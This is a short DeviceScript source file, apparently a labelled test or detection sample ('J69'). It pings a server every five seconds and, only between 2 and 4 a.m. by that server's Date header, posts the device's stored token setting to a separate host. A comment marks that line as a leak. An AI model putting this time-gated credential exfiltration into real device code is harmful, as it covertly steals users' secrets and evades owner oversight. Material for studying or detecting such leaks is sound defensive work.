// J69: sends its token elsewhere at night, by the clock of the server.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const date = reply.headers.get("date");
  await reply.close();
  if (!date) return;
  const hour = parseInt(date.split(" ")[4].split(":")[0]);
  if (hour < 2 || hour > 4) return;
  const response = await fetch("https://stats.example/j69", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
